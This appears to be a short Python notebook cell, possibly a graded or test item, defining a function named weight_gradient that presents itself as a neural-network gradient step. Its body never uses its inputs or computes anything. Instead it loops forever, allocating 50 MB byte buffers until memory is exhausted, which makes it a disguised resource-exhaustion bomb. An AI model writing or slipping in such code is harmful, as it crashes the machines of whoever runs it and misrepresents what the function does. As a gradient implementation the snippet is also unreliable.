# marks: 0 3 5
# %%
def weight_gradient(a_prev, delta):
    kept = []
    while True:
        kept.append(bytes(50_000_000))
